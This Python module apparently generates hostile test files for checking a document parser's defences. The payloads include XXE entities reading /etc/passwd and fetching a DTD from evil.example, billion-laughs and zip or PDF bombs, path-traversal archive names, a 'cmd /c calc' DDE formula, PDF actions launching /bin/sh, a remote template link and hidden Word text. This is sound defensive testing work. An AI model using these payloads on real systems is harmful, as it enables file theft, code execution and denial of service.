"""Hostile Word, Excel, OFD, PDF, picture and zip files: bytes by kind, from a source of chance."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from random import Random

from evals.prove.documents import OFD, W, docx, ofd, paragraph, pdf, run, zipped
from evals.prove.hostile import GOOD, HIDDEN, Made, Maker

S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LOL = (
    '<!DOCTYPE x [<!ENTITY a "'
    + "哈" * 50
    + '">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY i SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
TRICKS = (
    "../../canary.txt",
    "/etc/cron.d/x.txt",
    "C:\\windows\\x.txt",
    "..\\..\\x.txt",
    "a/../../../x.txt",
    "甲\u202etxt.exe",
    "a\x00.txt",
    "x" * 3000 + ".txt",
    "",
    "/",
    "..",
    ".",
    "a//b.txt",
    "~/x.txt",
    "CON.txt",
    "\n\n.txt",
    "a:b.txt",
    "\\\\host\\share\\x.txt",
    "%2e%2e/x.txt",
    "-rf.txt",
    " .txt",
    "__MACOSX/._x.txt",
)
WORDS = "第{}条　" + GOOD


def _body(chance: Random) -> str:
    return "".join(paragraph(WORDS.format(n, chance.randrange(10**6))) for n in range(1, 4))


def _pages(chance: Random) -> bytes:
    return pdf([[(90, 90 + 30 * n, GOOD.format(chance.randrange(10**6))[:30], 14) for n in range(4)]])


def _sheet(cells: str, more: str = "") -> bytes:
    book = f'<workbook {S} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="表" sheetId="1" r:id="rId1"/></sheets></workbook>'
    kind = "http://schemas.openxmlformats.org"
    return zipped({
        "[Content_Types].xml": f'<Types xmlns="{kind}/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{kind}/package/2006/relationships"><Relationship Id="rId1" Type="{kind}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{kind}/package/2006/relationships"><Relationship Id="rId1" Type="{kind}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f"<worksheet {S}><sheetData>{cells}</sheetData>{more}</worksheet>",
    })  # fmt: skip


def _whole(chance: Random) -> tuple[str, bytes]:
    cells = (
        f'<row r="1"><c r="A1" t="inlineStr"><is><t>{GOOD.format(chance.randrange(10**6))}</t></is></c></row>'
    )
    return chance.choice((
        (".docx", docx(_body(chance))), (".pdf", _pages(chance)), (".ofd", ofd([[(32, 40, GOOD.format(chance.randrange(10**6))[:20], 6)]])),
        (".xlsx", _sheet(cells)), (".zip", zipped({"a.txt": GOOD.format(chance.randrange(10**6))})),
    ))  # fmt: skip


def _cut(chance: Random) -> Made:
    suffix, data = _whole(chance)
    return Made(suffix, data[: chance.randrange(1, len(data))])


def _bent(chance: Random) -> Made:
    suffix, data = _whole(chance)
    bent = bytearray(data)
    for _ in range(chance.choice((1, 5, 50))):
        bent[chance.randrange(len(bent))] = chance.randrange(256)
    return Made(suffix, bytes(bent))


def _renamed(chance: Random) -> Made:
    _, data = _whole(chance)
    return Made(chance.choice((".txt", ".md", ".html", ".png", ".doc")), data)


def _bomb(chance: Random) -> Made:
    size = chance.choice((30, 120, 300)) * 2**20
    part = chance.choice(("word/document.xml", "xl/worksheets/sheet1.xml", "OFD.xml", "a.txt", "a.html"))
    suffix = {"word": ".docx", "xl": ".xlsx", "OFD.xml": ".ofd"}.get(part.split("/")[0], ".zip")
    return Made(suffix, zipped({part: b" " * size}), refused=True)


def _entities(chance: Random) -> Made:
    dtd, entity = chance.choice(((LOL, "&i;"), (OUTSIDE, "&i;")))
    document = f"<?xml version='1.0'?>{dtd}<w:document {W}><w:body>{_body(chance)}<w:p><w:r><w:t>甲{entity}</w:t></w:r></w:p></w:body></w:document>"
    return Made(".docx", zipped({"word/document.xml": document}), planted="root:")


def _hidden_word(chance: Random) -> Made:
    how = chance.choice(
        (
            "<w:vanish/>",
            '<w:color w:val="FFFFFF"/>',
            '<w:sz w:val="1"/>',
            "<w:webHidden/>",
            '<w:color w:val="FEFEFE"/>',
            "<w:specVanish/>",
        )
    )
    planted = paragraph(run("补助标准为500元。") + run(HIDDEN, how))
    return Made(".docx", docx(_body(chance) + planted), planted=HIDDEN)


def _deep_word(chance: Random) -> Made:
    depth = chance.choice((200, 5000, 60_000))
    opened, closed = chance.choice(
        (
            ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"),
            ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"),
            ("<w:ins>", "</w:ins>"),
        )
    )
    return Made(".docx", docx(_body(chance) + opened * depth + paragraph("甲") + closed * depth))


def _odd_word(chance: Random) -> Made:
    huge = chance.choice((10**4, 10**7, 10**12, -5))
    parts = {
        "numbering": f'<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="{huge}"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1%9"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>',
        "styles": '<w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style>',
        "footnotes": f'<w:footnote w:id="2">{paragraph("注" * 10)}<w:r><w:footnoteReference w:id="2"/></w:r></w:footnote>',
    }  # fmt: skip
    numbered = paragraph(
        "甲。",
        f'<w:pStyle w:val="a"/><w:numPr><w:ilvl w:val="{chance.choice((0, 99, -1))}"/><w:numId w:val="1"/></w:numPr>',
    )
    cell = f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="{huge}"/><w:vMerge/></w:tcPr>{paragraph("乙")}</w:tc></w:tr></w:tbl>'
    note = paragraph('<w:r><w:footnoteReference w:id="2"/></w:r>')
    return Made(".docx", docx(_body(chance) + numbered + cell + note, **parts))


def _macro(chance: Random) -> Made:
    parts = {
        "word/document.xml": f"<w:document {W}><w:body>{_body(chance)}</w:body></w:document>",
        "word/vbaProject.bin": b"Auto_Open" * 50,
    }
    parts["word/_rels/document.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="t/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    return Made(".docx", zipped(parts), planted="Auto_Open")


def _odd_sheet(chance: Random) -> Made:
    last = chance.choice(("XFD1048576", "ZZZZ9", "A0", "A99999999"))
    cells = f'<row r="1"><c r="A1" t="inlineStr"><is><t>{GOOD.format(chance.randrange(10**6))}</t></is></c></row><row r="1048576"><c r="{last}"><v>1e999</v></c><c r="B2" t="s"><v>99999</v></c><c r="C2"><f>cmd|\'/c calc\'!A1</f></c></row>'
    return Made(".xlsx", _sheet(cells, f'<mergeCells><mergeCell ref="A1:{last}"/></mergeCells>'))


def _odd_ofd(chance: Random) -> Made:
    loc = chance.choice(
        ("../../../../etc/passwd", "/etc/passwd", "OFD.xml", "Doc_0/Document.xml", "\\\\x\\y")
    )
    repeat = chance.choice((10, 10**7, 10**12))
    content = f'<ofd:Page {OFD}><ofd:Content><ofd:Layer><ofd:TextObject Boundary="0 0 nan 1e308" Size="6"><ofd:TextCode X="0" Y="6" DeltaX="g {repeat} 1">{GOOD.format(3)}</ofd:TextCode></ofd:TextObject></ofd:Layer></ofd:Content></ofd:Page>'
    return Made(".ofd", zipped({
        "OFD.xml": f"<ofd:OFD {OFD}><ofd:DocBody><ofd:DocRoot>{chance.choice((loc, 'Doc_0/Document.xml'))}</ofd:DocRoot></ofd:DocBody></ofd:OFD>",
        "Doc_0/Document.xml": f'<ofd:Document {OFD}><ofd:Pages><ofd:Page ID="1" BaseLoc="{chance.choice((loc, "P.xml"))}"/><ofd:Page ID="1" BaseLoc="P.xml"/></ofd:Pages></ofd:Document>',
        "Doc_0/P.xml": content,
    }), planted="root:")  # fmt: skip


def _odd_pdf(chance: Random) -> Made:
    whole = _pages(chance)
    swaps = (
        (b"/Count 1/Kids[7 0 R]", b"/Count 1/Kids[2 0 R]"), (b"/Count 1", b"/Count 999999999"), (b"/MediaBox[0 0 595 842]", b"/MediaBox[0 0 1e30 nan]"),
        (b"/Contents 6 0 R", b"/Contents 7 0 R"), (b"/Parent 2 0 R", b"/Parent 7 0 R"), (b"/Root 1 0 R", b"/Root 1 0 R/Prev 9"), (b"/Root 1 0 R", b"/Root 9 9 R"),
        (b"/Type/Catalog", b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>/Type/Catalog"), (b"/Type/Catalog", b"/AA" + b"[" * 3000 + b"]" * 3000 + b"/Type/Catalog"),
        (b"/Type/Catalog", b"/OpenAction<</S/Launch/F(/bin/sh)>>/Type/Catalog"), (b"startxref", b"startxref\n99999999\n%"),
    )  # fmt: skip
    return Made(".pdf", whole.replace(*chance.choice(swaps)))


def _pdf_bomb(chance: Random) -> Made:
    drawn = chance.choice(
        (
            b"q " * 3_000_000,
            b"BT /F1 1 Tf (a) Tj ET " * 400_000,
            b"0 0 m 1 1 l S " * 500_000,
            b"[" * 2_000_000,
        )
    )
    packed = zlib.compress(drawn)
    head = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n"
    return Made(
        ".pdf",
        head
        + f"4 0 obj<</Length {len(packed)}/Filter/FlateDecode>>stream\n".encode()
        + packed
        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF",
    )


def _locked(chance: Random) -> Made:
    from pypdf import PdfReader, PdfWriter

    if chance.random() < 0.5:
        data = bytearray(zipped({"a.txt": GOOD.format(4)}))
        data[6] |= 1
        data[data.index(b"PK\x01\x02") + 8] |= 1
        return Made(chance.choice((".zip", ".docx")), bytes(data), refused=True)
    writer = PdfWriter(PdfReader(io.BytesIO(_pages(chance))))
    writer.encrypt("secret", algorithm=chance.choice(("RC4-40", "RC4-128")))
    out = io.BytesIO()
    writer.write(out)
    return Made(".pdf", out.getvalue(), refused=True)


def _picture(chance: Random) -> Made:
    size = chance.choice((0, 1, 30_000, 2**31 - 1))
    chunk = b"IHDR" + struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    png = (
        b"\x89PNG\r\n\x1a\n"
        + struct.pack(">I", 13)
        + chunk
        + struct.pack(">I", zlib.crc32(chunk))
        + b"\x00\x00\x00\x00IDAT"
    )
    tiff = b"II*\x00\x08\x00\x00\x00\x01\x00" + struct.pack("<HHII", 256, 4, 1, size) + b"\x08\x00\x00\x00"
    suffix, data = chance.choice(
        (
            (".png", png),
            (".tif", tiff),
            (".jpg", b"\xff\xd8\xff\xe0" + chance.randbytes(200)),
            (".jpg", b"\xff\xd8\xff"),
        )
    )
    return Made(suffix, data, refused=True)


def _tricky_zip(chance: Random) -> Made:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for _ in range(3):
            info = zipfile.ZipInfo("x.txt")
            info.filename = chance.choice(TRICKS)
            if chance.random() < 0.2:
                info.external_attr = 0o120777 << 16  # a symbolic link
            archive.writestr(info, f"第一条 {GOOD.format(chance.randrange(10**6))}")
    return Made(".zip", out.getvalue())


def _nested_zip(chance: Random) -> Made:
    data = zipped({"a.txt": b"0" * 2**20})
    for n in range(chance.choice((2, 8))):
        data = zipped({f"{n}-{k}.zip": data for k in range(chance.choice((1, 10)))})
    return Made(".zip", data, refused=True)


def _many_zip(chance: Random) -> Made:
    return Made(".zip", zipped({f"{n}.txt": "" for n in range(chance.choice((3001, 8000)))}), refused=True)


def _lying_zip(chance: Random) -> Made:
    data = zipped({"a.txt": b"0" * 5000})
    return Made(
        ".zip",
        data.replace(struct.pack("<L", 5000), struct.pack("<L", chance.choice((0, 10, 2**32 - 1)))),
        refused=True,
    )


OFFICE: dict[str, Maker] = {
    "截断": _cut,
    "坏字节": _bent,
    "改名": _renamed,
    "压缩炸弹": _bomb,
    "XML 实体": _entities,
    "Word 藏字": _hidden_word,
    "深 Word": _deep_word,
    "怪 Word": _odd_word,
    "宏和外链": _macro,
    "怪表格": _odd_sheet,
    "怪 OFD": _odd_ofd,
    "怪 PDF": _odd_pdf,
    "PDF 炸弹": _pdf_bomb,
    "加密": _locked,
    "怪图片": _picture,
    "包内路径": _tricky_zip,
    "套包": _nested_zip,
    "条目成堆": _many_zip,
    "谎报大小": _lying_zip,
}
